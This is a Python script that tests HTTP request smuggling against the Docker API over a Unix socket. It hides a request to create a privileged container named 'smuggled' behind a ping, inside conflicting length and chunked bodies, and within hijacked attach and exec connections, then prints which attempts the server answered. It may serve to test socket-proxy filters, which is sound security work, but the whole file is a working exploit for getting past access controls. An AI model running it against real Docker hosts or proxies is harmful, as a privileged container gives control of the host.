"""Calls that hide behind others on one connection to the API of Docker.

    smuggle.py SOCKET READER    READER: a container that says again what it hears

Says how each was answered. What is hidden would make a privileged container that is named smuggled.
"""
import json
import re
import socket
import sys

address, reader = sys.argv[1:]
body = json.dumps({"Image": "busybox:1.36", "User": "10001", "HostConfig": {"Privileged": True}}).encode()
hidden = (b"POST /v1.41/containers/create?name=smuggled HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
          b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(body)) + body
upgrade = b"Host: x\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n"


def connect():
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(5)
    connection.connect(address)
    return connection


def read(connection, until=None):
    """All that comes, or until something has come."""
    heard = b""
    try:
        while until is None or until not in heard:
            piece = connection.recv(65536)
            if not piece:
                break
            heard += piece
    except socket.timeout:
        pass
    return heard


def statuses(heard):
    return ", ".join(status.decode() for status in re.findall(rb"HTTP/1\.1 (\d+)", heard)) or "nothing"


def send(title, *bytes_sent):
    with connect() as connection:
        connection.sendall(b"".join(bytes_sent))
        print(f"{title}: {statuses(read(connection))}")


def take_over(title, begin):
    """Hides it behind a call that takes the connection over, and again in the connection that was taken over."""
    with connect() as connection:
        connection.sendall(begin + hidden)
        heard = read(connection, b"\r\n\r\n")
        connection.sendall(hidden)
        heard += read(connection, b"smuggled")
        connection.shutdown(socket.SHUT_WR)
        print(f"{title}: {statuses(heard)}, {'said again' if b'smuggled' in heard else 'not said again'}")


def call(path, sent):
    with connect() as connection:
        text = json.dumps(sent).encode()
        connection.sendall(b"POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nConnection: close\r\n"
                           b"Content-Length: %d\r\n\r\n" % (path.encode(), len(text)) + text)
        return json.loads(read(connection).split(b"\r\n\r\n", 1)[1])


send("behind a harmless call", b"GET /_ping HTTP/1.1\r\nHost: x\r\n\r\n", hidden)
send("as the body of a harmless call, of which one length speaks",
     b"POST /v1.41/containers/web/stop?t=0 HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n", hidden)
chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
send("with two lengths",
     b"POST /v1.41/containers/create?name=smuggled HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
     b"Connection: close\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n", chunked)
send("behind the end of a body in chunks",
     b"POST /v1.41/networks/prune HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", hidden)
take_over("in an attached connection",
          b"POST /v1.41/containers/%s/attach?stream=1&stdin=1&stdout=1 HTTP/1.1\r\n" % reader.encode() + upgrade + b"\r\n")
made = call(f"/v1.41/containers/{reader}/exec",
            {"AttachStdin": True, "AttachStdout": True, "Cmd": ["busybox", "cat"]})
take_over("in the connection of an exec",
          b"POST /v1.41/exec/%s/start HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: 2\r\n" % made["Id"].encode()
          + upgrade + b"\r\n{}")
